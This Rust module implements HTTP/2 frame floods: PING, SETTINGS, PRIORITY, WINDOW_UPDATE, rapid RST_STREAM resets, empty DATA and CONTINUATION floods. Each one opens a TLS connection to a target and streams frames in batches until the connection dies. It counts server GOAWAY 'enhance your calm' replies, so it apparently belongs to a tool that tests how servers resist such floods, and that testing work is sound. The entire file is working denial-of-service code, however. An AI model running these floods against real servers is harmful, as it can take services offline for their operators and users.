//! Floods of HTTP/2 frames.

use std::{io, sync::atomic::Ordering};

use tokio::io::{AsyncWriteExt, split};

use super::{
    super::raw_http2::{
        CONTINUATION, DATA, GO_AWAY, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, frame, preface, read,
        window_update,
    },
    Attacker,
};

/// Frames of one write.
const BATCH: u32 = 100;

/// The error code ENHANCE_YOUR_CALM.
const ENHANCE_YOUR_CALM: [u8; 4] = [0, 0, 0, 11];

/// Frames of a flood.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    Ping,
    Settings,
    Priority,
    WindowUpdate,
    /// Requests that are reset at once.
    RstStream,
    EmptyData,
    Continuation,
}

impl Flood {
    pub const ALL: [Self; 7] = [
        Self::Ping,
        Self::Settings,
        Self::Priority,
        Self::WindowUpdate,
        Self::RstStream,
        Self::EmptyData,
        Self::Continuation,
    ];

    /// Frames before the flood.
    fn start(self, attacker: &Attacker) -> Vec<u8> {
        match self {
            Self::EmptyData => attacker.post(1, attacker.target.paths.upload),
            Self::Continuation => frame(HEADERS, 0, 1, &[]),
            _ => Vec::new(),
        }
    }

    /// The flood's frame with this number.
    fn frame(self, number: u32, attacker: &Attacker) -> Vec<u8> {
        match self {
            Self::Ping => frame(PING, 0, 0, &[0; 8]),
            Self::Settings => frame(SETTINGS, 0, 0, &[]),
            Self::Priority => frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]),
            Self::WindowUpdate => window_update(0, 1),
            Self::RstStream => {
                let id = 2 * number + 1;
                let cancel = frame(RST_STREAM, 0, id, &8_u32.to_be_bytes());
                [attacker.get(id, attacker.target.paths.large), cancel].concat()
            }
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            // A field without indexing, whose name and value have one byte.
            Self::Continuation => frame(CONTINUATION, 0, 1, b"\0\x01a\x01b"),
        }
    }
}

/// Sends frames until the connection ends.
pub(super) async fn run(flood: Flood, attacker: &Attacker) -> io::Result<()> {
    let mut stream = attacker.tls().await?;
    stream.write_all(&preface(65_535)).await?;
    stream.write_all(&flood.start(attacker)).await?;
    let (mut read_half, mut write) = split(stream);
    let reading = async {
        while let Some(frame) = read(&mut read_half).await {
            if frame.kind == GO_AWAY && frame.payload.get(4..8) == Some(&ENHANCE_YOUR_CALM) {
                attacker.group.calmed.fetch_add(1, Ordering::SeqCst);
            }
        }
    };
    let sending = async {
        attacker.reach();
        let mut number = 0;
        loop {
            let batch: Vec<u8> = (number..number + BATCH).flat_map(|at| flood.frame(at, attacker)).collect();
            number += BATCH;
            // The end of the connection is read.
            if write.write_all(&batch).await.is_err() || write.flush().await.is_err() {
                return;
            }
        }
    };
    tokio::join!(reading, sending);
    Ok(())
}
